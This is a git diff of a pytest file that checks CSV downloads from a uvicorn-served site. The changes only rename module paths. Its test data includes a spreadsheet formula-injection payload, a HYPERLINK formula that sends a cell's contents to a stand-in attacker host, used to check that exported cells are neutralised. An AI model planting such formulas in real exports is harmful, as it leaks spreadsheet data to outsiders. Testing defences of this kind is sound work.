@@ -1,4 +1,4 @@
-"""plugins/disconnect.py: a CSV download stops with its reader, on a real uvicorn.
+"""loader/site/plugins/disconnect.py: a CSV download stops with its reader, on a real uvicorn.
 
 The server is uvicorn with one worker (the process itself) serving a table
 of 300 MB of CSV, a view without rowids whose CSV has no end in sight, and a
@@ -22,13 +22,13 @@ from pathlib import Path
 import pytest
 
 from loader import PROJECT_ROOT
-from loader.serve import ALLOCATOR, DATABASE_VARIABLE, write_inspect_file
-from tests.support.plugins import plugin_module
+from loader.site.plugins import csv_bom, disconnect
+from loader.site.serve import ALLOCATOR, DATABASE_VARIABLE, write_inspect_file
 from tests.support.site_helpers import free_port, wait_until_served
 
 PORT = free_port()
 ROWS = 300_000
-SEND_SECONDS = plugin_module("disconnect").SEND_SECONDS
+SEND_SECONDS = disconnect.SEND_SECONDS
 AWKWARD = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'two\nlines, "quoted"', "Erdoğan", "-3", "x" * 20_000]
 
 
@@ -52,7 +52,7 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, int]
     write_inspect_file(db)
     process = subprocess.Popen(
         [
-            *(sys.executable, "-m", "uvicorn", "--factory", "loader.serve:app", "--app-dir", str(PROJECT_ROOT)),
+            *(sys.executable, "-m", "uvicorn", "--factory", "loader.site.serve:app", "--app-dir", str(PROJECT_ROOT)),
             *("--workers", "1", "--host", "127.0.0.1", "--port", str(PORT), "--no-access-log"),
         ],
         env={**os.environ, **ALLOCATOR, DATABASE_VARIABLE: str(db)},
@@ -155,7 +155,7 @@ def test_a_whole_download_still_comes_out_whole(server: tuple[str, int]) -> None
     """Sent in slices, neutralised as it streams: cells of every kind over a real socket."""
     base, _ = server
     expected = [["id", "text"]] + [[str(i + 1), AWKWARD[i % len(AWKWARD)]] for i in range(2_000)]
-    neutralised = plugin_module("csv_bom").neutralised
+    neutralised = csv_bom.neutralised
     for path, rows in [
         ("/-/csv/big/small.csv", expected),
         ("/big/small.csv?_stream=on&_size=max", expected),
